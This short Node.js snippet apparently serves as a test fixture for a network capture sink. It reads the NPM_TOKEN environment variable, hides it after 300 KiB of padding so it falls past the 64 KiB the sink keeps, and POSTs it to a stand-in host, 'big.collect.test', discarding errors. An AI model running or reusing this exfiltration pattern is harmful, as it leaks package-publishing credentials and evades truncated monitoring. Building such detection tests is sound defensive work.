// A 300 KiB upload with the token at its end, far past the 64 KiB the sink
// keeps.
const http = require('http');
const body = Buffer.concat([Buffer.alloc(300 * 1024, 'a'), Buffer.from('&t=' + process.env.NPM_TOKEN)]);
const r = http.request({ host: 'big.collect.test', port: 80, method: 'POST', path: '/u',
	headers: { 'content-type': 'application/octet-stream', 'content-length': body.length } }, res => res.resume());
r.on('error', () => {});
r.end(body);
